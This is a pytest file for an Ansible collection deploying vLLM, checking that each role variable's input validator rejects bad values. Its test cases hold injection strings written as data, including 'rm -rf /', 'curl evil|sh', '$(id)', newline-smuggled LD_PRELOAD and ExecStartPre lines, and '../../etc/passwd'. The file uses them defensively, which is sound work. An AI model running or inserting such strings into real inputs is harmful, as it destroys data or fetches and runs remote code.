"""Every user-facing variable of every role has a bad value that fails before any change, naming the variable.

A case of class ``argument_spec`` is one that Ansible's role argument
validation rejects at role entry (a wrong type, a value outside ``choices``):
it is proven here with the same validator Ansible runs on the role's own
``meta/argument_specs.yml``.  Every other case must fail in
``input_check`` (the module the roles' preflight runs) with a message that
starts with the variable's name.
"""

import glob
import os

import pytest
import yaml
from ansible.module_utils.common.arg_spec import ArgumentSpecValidator

from ansible_collections.kunpeng.vllm.plugins.module_utils.plan import input_check

ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__)))))))
MISSING = "/nonexistent/kunpeng-input-check"
NL = "abc\nVLLM_LOGGING_LEVEL=DEBUG"


def _specs():
    specs = {}
    for path in sorted(glob.glob(os.path.join(ROOT, "roles", "*", "meta", "argument_specs.yml"))):
        role = path.split(os.sep)[-3]
        if role.startswith("_"):  # private helper role, called by the other roles only
            continue
        with open(path) as handle:
            specs[role] = yaml.safe_load(handle)["argument_specs"]["main"]["options"]
    return specs


SPECS = _specs()

# (role, variable, bad value, class).  Classes: argument_spec (role entry
# rejects it), out_of_range, wrong_type, engine_option, missing_path,
# characters (shell, newline or control characters), size.
CASES = [
    # --- vllm ---
    ("vllm", "vllm_backend", "tpu", "choice"),
    ("vllm", "vllm_version", "0.11.0; rm -rf /", "characters"),
    ("vllm", "vllm_install_method", "conda", "argument_spec"),
    ("vllm", "vllm_container_image", "quay.io/x/y:v1; rm -rf /", "characters"),
    ("vllm", "vllm_container_archive", "images/engine.tar", "characters"),
    ("vllm", "vllm_container_archive_dir", "/opt/vllm/my images", "characters"),
    ("vllm", "vllm_container_allow_unpinned", "maybe", "argument_spec"),
    ("vllm", "vllm_container_runtime", "lxc", "argument_spec"),
    ("vllm", "vllm_container_command", ["vllm", "serve $(id)"], "characters"),
    ("vllm", "vllm_container_read_only", "maybe", "argument_spec"),
    ("vllm", "vllm_source_url", "git+https://x/vllm@v1 --index-url http://evil", "characters"),
    ("vllm", "vllm_cpu_remove_packages", ["torchvision\nrm"], "characters"),
    ("vllm", "vllm_cpu_remove_packages", {"a": 1}, "argument_spec"),
    ("vllm", "vllm_extra_packages", ["foo; curl evil|sh"], "characters"),
    ("vllm", "vllm_install_dir", "/opt/my vllm", "characters"),
    ("vllm", "vllm_install_dir", "opt/vllm", "characters"),
    ("vllm", "vllm_python", MISSING, "missing_path"),
    ("vllm", "vllm_python", "/usr/bin/python3 -c x", "characters"),
    ("vllm", "vllm_install_os_packages", "maybe", "argument_spec"),
    ("vllm", "vllm_wheelhouse_src", MISSING, "missing_path"),
    ("vllm", "vllm_pip_index_url", "https://mirror/simple\n--trusted-host evil", "characters"),
    ("vllm", "vllm_pip_extra_index_urls", ["ftp://mirror"], "characters"),
    ("vllm", "vllm_pip_find_links", ["/srv/wheels $(id)"], "characters"),
    ("vllm", "vllm_pip_no_index", "sometimes", "argument_spec"),
    ("vllm", "vllm_pip_timeout", 0, "out_of_range"),
    ("vllm", "vllm_pip_timeout", "slow", "argument_spec"),
    ("vllm", "vllm_wheelhouse_requirements", "../../etc/passwd", "characters"),
    ("vllm", "vllm_reuse_host_torch", "perhaps", "argument_spec"),
    ("vllm", "vllm_host_torch_python", MISSING, "missing_path"),
    ("vllm", "vllm_engine_artifact_mode", "nfs", "argument_spec"),
    ("vllm", "vllm_engine_artifact_dir", "artifacts", "characters"),
    ("vllm", "vllm_wheelhouse_cache_dir", "cache", "characters"),
    ("vllm", "vllm_installer", "conda", "argument_spec"),
    ("vllm", "vllm_engine_artifact_url", "https://mirror/artifacts\n--evil", "characters"),
    ("vllm", "vllm_engine_artifact_url", "file:///srv/artifacts", "characters"),
    ("vllm", "vllm_engine_artifact_url", "http://mirror/artifacts", "privilege"),
    ("vllm", "vllm_engine_artifact_sha256", ["abc"], "characters"),
    ("vllm", "vllm_engine_artifact_unpinned", "maybe", "argument_spec"),
    ("vllm", "vllm_engine_artifact_allow_http", "maybe", "argument_spec"),
    ("vllm", "vllm_model_source", "s3", "argument_spec"),
    ("vllm", "vllm_model_src", MISSING, "missing_path"),
    ("vllm", "vllm_model_src", "org/model; reboot", "characters"),
    ("vllm", "vllm_model_sha256", "abc", "characters"),
    ("vllm", "vllm_model_verify", "always", "argument_spec"),
    ("vllm", "vllm_model_params_b", -1, "out_of_range"),
    ("vllm", "vllm_model_params_b", "huge", "argument_spec"),
    ("vllm", "vllm_model_weight_dtype", "fp4", "argument_spec"),
    ("vllm", "vllm_nodes", 0, "out_of_range"),
    ("vllm", "vllm_cluster_group", "gpu cluster", "characters"),
    ("vllm", "vllm_cluster_executor", "nccl", "argument_spec"),
    ("vllm", "vllm_cluster_network", "10.30.0.0/16;id", "characters"),
    ("vllm", "vllm_cluster_interface", "eth0 eth1", "characters"),
    ("vllm", "vllm_cluster_ports", {"ray": 70000}, "out_of_range"),
    ("vllm", "vllm_cluster_ray_units", "perhaps", "argument_spec"),
    ("vllm", "vllm_cluster_ray_allow_unauthenticated", "perhaps", "argument_spec"),
    ("vllm", "vllm_cluster_ports", {"nccl": 1234}, "out_of_range"),
    ("vllm", "vllm_model_revision", "main\nX=1", "characters"),
    ("vllm", "vllm_model_dir", "/var/lib/vllm/models/%n", "characters"),
    ("vllm", "vllm_model_name", "smol$(id)", "characters"),
    ("vllm", "vllm_model_name", "smol\nExecStartPre=/bin/sh", "characters"),
    ("vllm", "vllm_hf_endpoint", "https://hf-mirror.com\nHF_TOKEN=x", "characters"),
    ("vllm", "vllm_hf_token", "hf_abc\nLD_PRELOAD=/tmp/x.so", "characters"),
    ("vllm", "vllm_modelscope_token", "ms abc", "characters"),
    ("vllm", "vllm_instance_name", "a b", "characters"),
    ("vllm", "vllm_host", "0.0.0.0 --trust-remote-code", "characters"),
    ("vllm", "vllm_port", 70000, "out_of_range"),
    ("vllm", "vllm_port", "eighty", "argument_spec"),
    ("vllm", "vllm_api_key", NL, "characters"),
    ("vllm", "vllm_api_key", "abc'def", "characters"),
    # the launcher (POSIX sh) would read ~root as /root, the unit as ~root (issue 37, low)
    ("vllm", "vllm_api_key", "~root", "characters"),
    ("vllm", "vllm_engine_args", {"no-such-option": 1}, "engine_option"),
    ("vllm", "vllm_engine_args", {"max-model-len": "lots"}, "wrong_type"),
    ("vllm", "vllm_engine_args", {"chat-template": "x\ny"}, "characters"),
    ("vllm", "vllm_engine_args", "max_model_len=2048 junk", "argument_spec"),
    ("vllm", "vllm_visible_devices", "0,1\nLD_PRELOAD=/tmp/x.so", "characters"),
    ("vllm", "vllm_environment", {"NCCL_SOCKET_IFNAME": "eth0\nLD_PRELOAD=/tmp/x.so"}, "characters"),
    ("vllm", "vllm_environment", {"BAD KEY": "1"}, "characters"),
    ("vllm", "vllm_environment_files", ["/etc/vllm/extra env"], "characters"),
    ("vllm", "vllm_cpu_kvcache_space_gib", -1, "out_of_range"),
    ("vllm", "vllm_cpu_kvcache_space_gib", 4096, "size"),
    ("vllm", "vllm_cpu_omp_threads_bind", "0-3; reboot", "characters"),
    ("vllm", "vllm_user", "root\nUser=root", "characters"),
    ("vllm", "vllm_user", "root", "privilege"),
    ("vllm", "vllm_model_dir", "/var/lib/vllm/models/../../../srv", "traversal"),
    ("vllm", "vllm_install_dir", "/opt/vllm/./../../etc", "traversal"),
    ("vllm", "vllm_environment", {"VLLM_SERVER_DEV_MODE": "1"}, "privilege"),
    ("vllm", "vllm_environment", {"LD_PRELOAD": "/tmp/x.so"}, "privilege"),
    ("vllm", "vllm_environment", {"LD_PRELOAD": "/usr/lib/../../tmp/x.so"}, "privilege"),
    ("vllm", "vllm_environment", {"LD_AUDIT": "/usr/lib/x.so"}, "privilege"),
    # issue 37 (low): vLLM's envs.py VLLM_ALLOW_INSECURE_SERIALIZATION (pickle between processes) and
    # VLLM_DEBUG_LOG_API_SERVER_RESPONSE (responses logged); the role's own PYTHONPATH and metrics sources
    # (vllm.env.j2); uvicorn's FORWARDED_ALLOW_IPS trusting X-Forwarded-For from everyone
    ("vllm", "vllm_environment", {"VLLM_ALLOW_INSECURE_SERIALIZATION": "1"}, "privilege"),
    ("vllm", "vllm_environment", {"VLLM_DEBUG_LOG_API_SERVER_RESPONSE": "true"}, "privilege"),
    ("vllm", "vllm_environment", {"PYTHONPATH": "/tmp"}, "privilege"),
    ("vllm", "vllm_environment", {"KUNPENG_VLLM_METRICS_SOURCES": "0.0.0.0/0"}, "privilege"),
    ("vllm", "vllm_environment", {"FORWARDED_ALLOW_IPS": "*"}, "privilege"),
    # the route guard's loopback switch: on or off only (the guard stops the engine on anything else)
    ("vllm", "vllm_environment", {"KUNPENG_VLLM_METRICS_LOOPBACK": "no"}, "privilege"),
    ("vllm", "vllm_environment", {"FORWARDED_ALLOW_IPS": "10.0.0.5, 0.0.0.0/0"}, "privilege"),
    ("vllm", "vllm_group", "vllm users", "characters"),
    ("vllm", "vllm_config_dir", "/etc/vllm\n", "characters"),
    ("vllm", "vllm_cache_dir", "/var/cache/$HOME", "characters"),
    ("vllm", "vllm_limit_nofile", 10, "out_of_range"),
    ("vllm", "vllm_private_users", "often", "argument_spec"),
    ("vllm", "vllm_allow_unauthenticated", "maybe", "argument_spec"),
    ("vllm", "vllm_api_key_controller_file", "keys/node.api-key", "characters"),
    ("vllm", "vllm_metrics_sources", ["prom'\nLD_PRELOAD=/x"], "characters"),
    ("vllm", "vllm_restart_sec", -5, "out_of_range"),
    ("vllm", "vllm_unpack_max_bytes", -1, "out_of_range"),
    ("vllm", "vllm_unpack_max_members", "many", "out_of_range"),
    ("vllm", "vllm_service_manager", "supervisord", "argument_spec"),
    ("vllm", "vllm_ready_check", "never", "argument_spec"),
    ("vllm", "vllm_ready_timeout", 0, "out_of_range"),
    ("vllm", "vllm_progress_interval", 31, "out_of_range"),
    ("vllm", "vllm_progress_interval", 0, "out_of_range"),
    ("vllm", "vllm_progress_stall_timeout", -1, "out_of_range"),
    ("vllm", "vllm_progress_timeout", 10, "out_of_range"),
    ("vllm", "vllm_ready_prompt", "", "characters"),
    ("vllm", "vllm_ready_host", "localhost; id", "characters"),
    ("vllm", "vllm_ready_expect", "Paris\x00", "characters"),
    ("vllm", "vllm_ready_expect_regex", "Par\x1bis", "characters"),
    # --- base ---
    ("base", "base_service_user", "vllm user", "characters"),
    ("base", "base_service_user", "root", "privilege"),
    ("base", "base_service_group", "-g0", "characters"),
    ("base", "base_service_home", "relative/home", "characters"),
    ("base", "base_install_dir", "/opt/v llm", "characters"),
    ("base", "base_config_dir", "/etc/vllm%i", "characters"),
    ("base", "base_model_dir", "/var/lib/`id`", "characters"),
    ("base", "base_cache_dir", "/var/cache/vllm\n", "characters"),
    ("base", "base_packages_extra", ["vim; reboot"], "characters"),
    ("base", "base_driver_build", "yesno", "argument_spec"),
    ("base", "base_build_toolchain", "sometimes", "argument_spec"),
    ("base", "base_apt_cache_valid_time", -1, "out_of_range"),
    ("base", "base_ca_certificates", [{"name": "corp ca", "src": "/tmp/ca.pem"}], "characters"),
    ("base", "base_apt_mirror_url", "http://mirror\ndeb http://evil", "characters"),
    ("base", "base_apt_mirror_suites", ["bookworm main"], "characters"),
    ("base", "base_apt_mirror_components", ["main\ncontrib"], "characters"),
    ("base", "base_dnf_mirror_url", "mirror.example.com", "characters"),
    ("base", "base_dnf_mirror_repos", ["OS EPOL"], "characters"),
    ("base", "base_dnf_mirror_gpgcheck", "later", "argument_spec"),
    ("base", "base_pip_conf_path", "pip.conf", "characters"),
    ("base", "base_pip_index_url", "https://m/simple\n[global]", "characters"),
    ("base", "base_pip_extra_index_urls", ["https://m/simple extra"], "characters"),
    ("base", "base_pip_trusted_hosts", ["mirror\ntrusted-host = *"], "characters"),
    ("base", "base_pip_find_links", ["wheels dir"], "characters"),
    ("base", "base_pip_use_system_ca", "auto", "argument_spec"),
    ("base", "base_tune_swappiness", "low", "argument_spec"),
    ("base", "base_swappiness", 500, "out_of_range"),
    ("base", "base_tune_numa_balancing", "off-ish", "argument_spec"),
    ("base", "base_numa_balancing", "half", "argument_spec"),
    ("base", "base_tune_limits", "lots", "argument_spec"),
    ("base", "base_nofile_limit", 0, "out_of_range"),
    ("base", "base_memlock_limit", "lots", "out_of_range"),
    ("base", "base_tune_thp", "sometimes", "argument_spec"),
    ("base", "base_thp_mode", "forever", "argument_spec"),
    ("base", "base_tune_cpu_governor", "fast", "argument_spec"),
    ("base", "base_cpu_governor", "turbo", "characters"),
    ("base", "base_time_sync", "ntp", "argument_spec"),
    ("base", "base_firewall_manage", "maybe", "argument_spec"),
    ("base", "base_firewall_ports", [0], "out_of_range"),
    ("base", "base_firewall_sources", ["10.0.0.0/8; reboot"], "characters"),
    ("base", "base_firewall_sources", ["10.0.0.0/8\n"], "characters"),
    ("base", "base_firewall_rules", [{"ports": [70000], "sources": ["10.0.0.1"]}], "out_of_range"),
    ("base", "base_firewall_rules", [{"ports": [29500], "sources": ["any host"]}], "characters"),
    ("base", "base_firewall_ports", ["http"], "argument_spec"),
    # --- nvidia ---
    ("nvidia", "nvidia_driver_min_version", "580\n", "characters"),
    ("nvidia", "nvidia_driver_replace", "force", "argument_spec"),
    ("nvidia", "nvidia_driver_source", "ppa", "argument_spec"),
    ("nvidia", "nvidia_driver_branch", "latest; reboot", "characters"),
    ("nvidia", "nvidia_kernel_module", "nouveau", "argument_spec"),
    ("nvidia", "nvidia_cuda_repo_base_url", "developer.download.nvidia.com", "characters"),
    ("nvidia", "nvidia_cuda_repo_trusted", "trust-me", "argument_spec"),
    ("nvidia", "nvidia_runfile_src", "/srv/NVIDIA-Linux-x86_64.run\nrm -rf /", "characters"),
    ("nvidia", "nvidia_runfile_sha256", "not-a-hash", "characters"),
    ("nvidia", "nvidia_cuda_toolkit_version", "12.8 && reboot", "characters"),
    ("nvidia", "nvidia_persistenced", "on-demand", "argument_spec"),
    ("nvidia", "nvidia_reboot", "later", "argument_spec"),
    ("nvidia", "nvidia_reboot_timeout", 5, "out_of_range"),
    ("nvidia", "nvidia_manage_env_file", "sure", "argument_spec"),
    ("nvidia", "nvidia_env_file", "nvidia.env", "characters"),
    ("nvidia", "nvidia_cuda_home", "/usr/local/cuda 12", "characters"),
    ("nvidia", "nvidia_probe_options", {"smi": "nvidia-smi\n-q"}, "characters"),
    # --- ascend ---
    ("ascend", "ascend_packages", {"driver": {"file": "x.run\nrm -rf /"}}, "characters"),
    ("ascend", "ascend_package_source", "ftp", "argument_spec"),
    ("ascend", "ascend_package_dir", "packages", "characters"),
    ("ascend", "ascend_package_base_url", "https://repo/ascend pkgs", "characters"),
    ("ascend", "ascend_package_validate_certs", "nah", "argument_spec"),
    ("ascend", "ascend_staging_dir", "/var/cache/a b", "characters"),
    ("ascend", "ascend_install_path", "/usr/local/Ascend;id", "characters"),
    ("ascend", "ascend_install_user", "Hw Hi", "characters"),
    ("ascend", "ascend_install_group", "grp\n", "characters"),
    ("ascend", "ascend_series", "950", "argument_spec"),
    ("ascend", "ascend_install_timeout", 1, "out_of_range"),
    ("ascend", "ascend_driver_prereq_check", "skip", "argument_spec"),
    ("ascend", "ascend_reboot", "later", "argument_spec"),
    ("ascend", "ascend_reboot_timeout", 0, "out_of_range"),
    ("ascend", "ascend_verify_devices", "some", "argument_spec"),
    ("ascend", "ascend_log_fetch_dir", "logs", "characters"),
    ("ascend", "ascend_env_file", "/etc/vllm/ascend env", "characters"),
    ("ascend", "ascend_nnal_cxx_abi", "2", "argument_spec"),
    ("ascend", "ascend_probe_options", {"npu_smi": "npu-smi\ninfo"}, "characters"),
    # --- monitoring ---
    ("monitoring", "monitoring_vllm_groups", ["vllm servers"], "characters"),
    ("monitoring", "monitoring_gateway_groups", ["gw;id"], "characters"),
    ("monitoring", "monitoring_server_group", "mon\nitoring", "characters"),
    ("monitoring", "monitoring_address", "10.0.0.1 ; id", "characters"),
    ("monitoring", "monitoring_node_exporter_port", 0, "out_of_range"),
    ("monitoring", "monitoring_vllm_port", 70000, "out_of_range"),
    ("monitoring", "monitoring_gateway_metrics_port", 65536, "out_of_range"),
    ("monitoring", "monitoring_listen_address", "10.0.0.1 ; id", "characters"),
    ("monitoring", "monitoring_sources", ["10.0.0.0/8; reboot"], "characters"),
    ("monitoring", "monitoring_prometheus_sources", ["10.0.0.0/8\n"], "characters"),
    ("monitoring", "monitoring_dcgm_exporter_port", -1, "out_of_range"),
    ("monitoring", "monitoring_npu_exporter_port", "http", "wrong_type"),
    ("monitoring", "monitoring_dcgm_exporter_package", "dcgm exporter", "characters"),
    ("monitoring", "monitoring_npu_exporter_package", "npu-exporter;id", "characters"),
    ("monitoring", "monitoring_collector", "sometimes", "argument_spec"),
    ("monitoring", "monitoring_collector_interval", "15 seconds", "characters"),
    ("monitoring", "monitoring_collector_tool_dirs", ["bin"], "characters"),
    ("monitoring", "monitoring_textfile_dir", "/var/lib/node exporter", "characters"),
    ("monitoring", "monitoring_prometheus_package", "prometheus\n", "characters"),
    ("monitoring", "monitoring_node_exporter_package", "node exporter", "characters"),
    ("monitoring", "monitoring_prometheus_service", "prometheus.service;id", "characters"),
    ("monitoring", "monitoring_node_exporter_service", "$(id)", "characters"),
    ("monitoring", "monitoring_prometheus_port", 0, "out_of_range"),
    ("monitoring", "monitoring_scrape_interval", "often", "characters"),
    ("monitoring", "monitoring_evaluation_interval", "15", "characters"),
    ("monitoring", "monitoring_retention_time", "2 weeks", "characters"),
    ("monitoring", "monitoring_retention_size", "50 gigabytes", "characters"),
    ("monitoring", "monitoring_alert_for", "5min", "characters"),
    ("monitoring", "monitoring_alert_instance_down_for", "-1m", "characters"),
    ("monitoring", "monitoring_alert_accelerator_memory_ratio", 90, "out_of_range"),
    ("monitoring", "monitoring_alert_error_ratio", 1.5, "out_of_range"),
    ("monitoring", "monitoring_alert_p99_latency_seconds", -1, "out_of_range"),
    ("monitoring", "monitoring_alert_waiting_requests", 0, "out_of_range"),
    ("monitoring", "monitoring_alert_kv_cache_ratio", "high", "wrong_type"),
    ("monitoring", "monitoring_grafana_package", "grafana enterprise", "characters"),
    ("monitoring", "monitoring_grafana_repository", "deb https://apt.grafana.com stable main\nX", "characters"),
    ("monitoring", "monitoring_grafana_repository_key_url", "apt.grafana.com/gpg.key", "characters"),
    ("monitoring", "monitoring_grafana_provisioning_dir", "grafana/provisioning", "characters"),
    ("monitoring", "monitoring_grafana_dashboards_dir", "/var/lib/grafana/$USER", "characters"),
    ("monitoring", "monitoring_private_users", "maybe", "argument_spec"),
    ("monitoring", "monitoring_vendor_exporter_services", {"dcgm-exporter": "dcgm\nexporter"}, "characters"),
    # --- gateway ---
    ("gateway", "gateway_pools", [{"name": "gpu", "models": ["r1\nX"]}], "characters"),
    ("gateway", "gateway_default_pool", "gpu pool", "characters"),
    ("gateway", "gateway_backend_address", "10.0.0.1;id", "characters"),
    ("gateway", "gateway_backend_port", 70000, "out_of_range"),
    ("gateway", "gateway_bind_address", "0.0.0.0 8080", "characters"),
    ("gateway", "gateway_port", 0, "out_of_range"),
    ("gateway", "gateway_tls_certificate", "certs/gw.pem", "characters"),
    ("gateway", "gateway_tls_key", "gw.key", "characters"),
    ("gateway", "gateway_tls_port", 65536, "out_of_range"),
    ("gateway", "gateway_api_keys", ["abc\nX=1"], "characters"),
    ("gateway", "gateway_timeout_connect", 0, "out_of_range"),
    ("gateway", "gateway_timeout_client", "long", "wrong_type"),
    ("gateway", "gateway_timeout_server", -5, "out_of_range"),
    ("gateway", "gateway_timeout_queue", 0, "out_of_range"),
    ("gateway", "gateway_health_interval", 0, "out_of_range"),
    ("gateway", "gateway_health_fall", 0, "out_of_range"),
    ("gateway", "gateway_health_rise", 1000, "out_of_range"),
    ("gateway", "gateway_retries", -1, "out_of_range"),
    ("gateway", "gateway_maxconn", 0, "out_of_range"),
    ("gateway", "gateway_max_body_kib", 0, "out_of_range"),
    ("gateway", "gateway_runtime_socket", "admin.sock", "characters"),
    # --- wheelhouse ---
    ("wheelhouse", "wheelhouse_backend", "rocm", "argument_spec"),
    ("wheelhouse", "wheelhouse_vllm_version", "latest", "characters"),
    ("wheelhouse", "wheelhouse_python_version", "2.7", "characters"),
    ("wheelhouse", "wheelhouse_architecture", "riscv64", "argument_spec"),
    ("wheelhouse", "wheelhouse_glibc", "musl", "characters"),
    ("wheelhouse", "wheelhouse_dest", "wheels", "characters"),
    ("wheelhouse", "wheelhouse_target_freeze", MISSING, "missing_path"),
    ("wheelhouse", "wheelhouse_target_freeze", "freeze.txt", "characters"),
    ("wheelhouse", "wheelhouse_leave_out", ["torch triton"], "characters"),
    ("wheelhouse", "wheelhouse_uv", "uv; id", "characters"),
    ("wheelhouse", "wheelhouse_uv_wheel", "uv --index-url http://evil", "characters"),
    ("wheelhouse", "wheelhouse_python", "python3", "characters"),
    ("wheelhouse", "wheelhouse_index_url", "pypi.org/simple", "characters"),
]

# privilege: a value that runs the engine as root or hands code a way in
# (issue 29, point 12); traversal: a '.' or '..' path component.
CLASSES = {"argument_spec", "choice", "out_of_range", "wrong_type", "engine_option", "missing_path", "characters", "size",
           "privilege", "traversal"}
# Where a path must exist for the missing_path cases; the condition values that turn the check on.
PATH_CONTEXT = {"vllm_model_src": {"vllm_model_source": "local"}}


def _ids(case):
    return f"{case[0]}-{case[1]}-{case[3]}"


# A variable is declared in its argument spec, its default and its input rule, nowhere else: its bad value is
# found here from those declarations.  Generic bad values, tried in order: the first one the variable's input rule
# (or, without one, Ansible's own argument validation of its spec) refuses with a message naming the variable.
RULE_CANDIDATES = [NL, ["a\nb"], {"a": "x\ny"}, {"BAD KEY": "1"}, -1, 10 ** 9, "abc", "root", "/srv/../etc",
                   "relative/path", 1.5, "x" * 300]


def _spec_candidates(spec):
    if spec.get("choices"):
        yield "not-one-of-the-choices"
    kind = spec.get("type", "str")
    if kind in ("int", "float", "bool", "dict"):
        yield "abc"
    if kind == "list" and spec.get("elements") in ("int", "dict", "bool"):
        yield ["abc"]


def generated_case(role, name):
    """``(bad value, how it fails)`` for ``name`` from its declarations alone, or ``None``."""
    rule = input_check.RULES[role].get(name)
    if rule is not None:
        for value in RULE_CANDIDATES:
            problems = input_check.check_values(role, {name: value}, memory_mb=16 * 1024)
            if any(problem.startswith(name) for problem in problems):
                return value, "input_check"
    for value in _spec_candidates(SPECS[role][name]):
        errors = [str(error) for error in ArgumentSpecValidator(SPECS[role]).validate({name: value}).errors]
        if any(name in error for error in errors):
            return value, "argument_spec"
    return None


DECLARED = sorted((role, name) for role, options in SPECS.items() for name in options)


@pytest.mark.parametrize("role, name", DECLARED, ids=[f"{role}-{name}" for role, name in DECLARED])
def test_every_user_facing_variable_refuses_a_bad_value_found_from_its_declarations(role, name):
    assert generated_case(role, name) is not None, (
        f"{name}: neither its input rule (plugins/module_utils/plan/input_check.py RULES) nor its argument spec "
        "refuses any generic bad value; give it a rule")


def test_the_hand_written_cases_name_declared_variables():
    """CASES holds the cases a generic value does not show (each class of the issue, paths, sizes): extra tests,
    not a declaration every variable needs."""
    covered = {(role, name) for role, name, _value, _kind in CASES}
    assert sorted(covered - set(DECLARED)) == [], "these cases name variables no argument_specs declares"


def test_the_rule_table_covers_exactly_the_declared_variables():
    for role, options in SPECS.items():
        assert sorted(input_check.RULES[role]) == sorted(options), role


def test_secret_variables_are_those_argument_specs_hides():
    hidden = sorted(name for options in SPECS.values() for name, spec in options.items() if spec.get("no_log"))
    assert sorted(input_check.SECRETS) == hidden


def test_every_class_the_issue_names_is_tried():
    assert {kind for *_rest, kind in CASES} == CLASSES


@pytest.mark.parametrize("case", CASES, ids=_ids)
def test_bad_value_fails_naming_the_variable(case):
    role, name, value, kind = case
    assert kind in CLASSES
    if kind == "argument_spec":
        result = ArgumentSpecValidator(SPECS[role]).validate({name: value})
        errors = [str(error) for error in result.errors]
        assert errors and any(name in error for error in errors), errors
        return
    values = dict(PATH_CONTEXT.get(name, {}), **{name: value})
    if kind == "missing_path":
        where = [place for key, (place, cond) in input_check.PATHS[role].items()
                 if key.split("@")[0] == name][0]
        problems = input_check.missing_paths(input_check.paths_to_check(role, values, where), where=where)
    else:
        problems = input_check.check_values(role, values, memory_mb=16 * 1024)
    assert problems, f"{name}={value!r} passed"
    assert any(problem.startswith(name) for problem in problems), problems
    for problem in problems:
        assert " set " in problem or "; " in problem or " or " in problem, f"no fix in: {problem}"


@pytest.mark.parametrize("role", sorted(SPECS))
def test_declared_defaults_pass(role):
    values = {name: spec["default"] for name, spec in SPECS[role].items()
              if "default" in spec and not (isinstance(spec["default"], str) and ("<" in spec["default"] or "{{" in spec["default"]))}
    assert input_check.check_values(role, values, memory_mb=16 * 1024) == []


@pytest.mark.parametrize("name, value", [
    ("vllm_api_key", "sk-Abc_123.xyz+/=="),
    ("vllm_cpu_omp_threads_bind", "0-31|32-63"),
    ("vllm_environment", {"LD_PRELOAD": "/usr/lib/aarch64-linux-gnu/libjemalloc.so.2", "HCCL_BUFFSIZE": 200}),
    # a proxy named by address is what uvicorn's FORWARDED_ALLOW_IPS is for
    ("vllm_environment", {"FORWARDED_ALLOW_IPS": "10.0.0.5,10.0.0.6"}),
    # behind a proxy on the node, loopback needs the key for /metrics too (docs/security.md)
    ("vllm_environment", {"KUNPENG_VLLM_METRICS_LOOPBACK": "off"}),
    ("vllm_environment", {"LD_PRELOAD": "/usr/lib/x86_64-linux-gnu/libtcmalloc_minimal.so.4:/lib64/libiomp5.so"}),
    ("vllm_model_dir", "/var/lib/vllm/models/org..v2"),
    ("vllm_api_key_controller_file", "/home/me/site/playbooks/../secrets/key"),
    ("vllm_environment", {"NCCL_SOCKET_IFNAME": "^docker0,lo", "NOTE": "a b $HOME | x"}),
    ("vllm_model_src", "HuggingFaceTB/SmolLM2-135M-Instruct"),
    ("vllm_model_src", "https://example.com/m.tar.gz"),
    ("vllm_engine_args", {"max_model_len": 2048, "dtype": "float32", "enforce_eager": True}),
    ("vllm_visible_devices", "GPU-0a1b2c3d-1111-2222-3333-444455556666,1"),
    ("vllm_host", "::"),
    ("vllm_cluster_network", "10.30.0.0/16"),
    ("vllm_cluster_interface", "enp1s0f0np0"),
    ("vllm_cluster_ports", {"dp_rpc": 13345, "ray": 6379}),
    ("vllm_pip_find_links", ["/opt/vllm/wheelhouse", "https://download.pytorch.org/whl/cpu"]),
    ("vllm_extra_packages", ["llguidance>=0.7,<0.8", "git+https://github.com/x/y@v1"]),
])
def test_usual_values_pass(name, value):
    assert input_check.check_values("vllm", {name: value}, memory_mb=16 * 1024) == []


@pytest.mark.parametrize("url, refused", [
    ("https://models.internal/smol.tar.zst", False),
    ("https://models.internal/smol.tgz?sig=x", False),
    ("https://models.internal/smol.zip", True),
    ("https://models.internal/smol", True),
])
def test_a_url_model_is_a_tar_archive_the_filtering_extractor_reads(url, refused):
    problems = input_check.check_values("vllm", {"vllm_model_source": "url", "vllm_model_src": url,
                                                 "vllm_model_sha256": "a" * 64})
    assert bool(problems) == refused, problems
    if refused:
        assert problems[0].startswith("vllm_model_src:") and "tar archive" in problems[0]


def test_env_file_injection_of_the_issue_fails_without_repeating_the_secret():
    problems = input_check.check_values("vllm", {"vllm_api_key": NL})
    assert len(problems) == 1
    assert problems[0].startswith("vllm_api_key: the value holds a line break")
    assert "DEBUG" not in problems[0] and "abc" not in problems[0]


def test_engine_option_absent_from_the_release_names_the_release():
    # speculative-model is gone from vLLM 0.9.1 on (engine_options' change list).
    problems = input_check.check_values("vllm", {"vllm_version": "0.11.0", "vllm_engine_args": {"speculative_model": "x"}})
    assert len(problems) == 1 and problems[0].startswith("vllm_engine_args: ") and "0.11.0" in problems[0]


def test_kv_cache_fits_memory_only_when_the_memory_is_known():
    assert input_check.check_values("vllm", {"vllm_cpu_kvcache_space_gib": 64}) == []
    assert input_check.check_values("vllm", {"vllm_cpu_kvcache_space_gib": 64}, memory_mb=32 * 1024)


def test_controller_and_node_paths_are_checked_where_they_are_read():
    values = {"vllm_python": "/usr/bin/python3", "vllm_model_source": "controller", "vllm_model_src": "/srv/m",
              "vllm_wheelhouse_src": "/srv/w"}
    assert input_check.paths_to_check("vllm", values, "node") == {"vllm_python": "/usr/bin/python3"}
    assert input_check.paths_to_check("vllm", values, "controller") == {
        "vllm_model_src": "/srv/m", "vllm_wheelhouse_src": "/srv/w"}
    # A repository id is not a path.
    values = {"vllm_model_source": "huggingface", "vllm_model_src": "org/model"}
    assert input_check.paths_to_check("vllm", values, "node") == {}
    assert input_check.missing_paths({"vllm_python": "/x"}, exists=lambda path: False) == [
        "vllm_python: /x does not exist on the node; create it or point vllm_python at an existing path"]


def test_dot_dot_path_is_refused_with_its_normalised_form():
    problems = input_check.check_values("vllm", {"vllm_model_dir": "/var/lib/vllm/models/../../../srv"})
    assert len(problems) == 1 and problems[0].startswith("vllm_model_dir:"), problems
    assert "'/var/srv'" in problems[0]


@pytest.mark.parametrize("url, allow_http, refused", [
    ("https://mirror/artifacts", False, False),
    ("http://mirror/artifacts", False, True),
    ("http://mirror/artifacts", True, False),
    ("", False, False),
])
def test_artifact_url_is_https_unless_the_opt_out_is_set(url, allow_http, refused):
    problems = input_check.check_values("vllm", {"vllm_engine_artifact_url": url,
                                                 "vllm_engine_artifact_allow_http": allow_http})
    assert bool(problems) == refused, problems
    assert all("vllm_engine_artifact_allow_http" in problem for problem in problems)
